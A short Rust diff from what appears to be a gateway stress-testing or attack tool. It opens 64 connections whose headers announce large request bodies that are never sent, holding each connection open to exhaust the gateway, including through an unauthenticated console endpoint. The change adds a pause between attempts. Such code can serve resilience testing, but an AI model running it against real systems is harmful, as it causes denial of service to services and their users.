@@ -1,6 +1,7 @@
 //! 64 bodies that are announced and never sent.
 
 use std::sync::Arc;
+use std::time::Duration;
 
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::task::JoinSet;
@@ -9,6 +10,8 @@ use crate::target::Target;
 
 const BODIES: usize = 64;
 const ANNOUNCED: usize = 9_500_000;
+/// How long a body that was refused waits before it is announced again: a flood of requests is another attack.
+const PAUSE: Duration = Duration::from_millis(500);
 
 /// Without a key: the choice of a language in the console needs none.
 pub fn anonymous(target: &Arc<Target>) -> JoinSet<()> {
@@ -34,6 +37,7 @@ fn begin(target: &Arc<Target>, head: &str) -> JoinSet<()> {
                 let _ = stream.write_all(head.as_bytes()).await;
                 // Until the gateway has had enough.
                 let _ = stream.read_to_end(&mut Vec::new()).await;
+                tokio::time::sleep(PAUSE).await;
             }
         });
     }
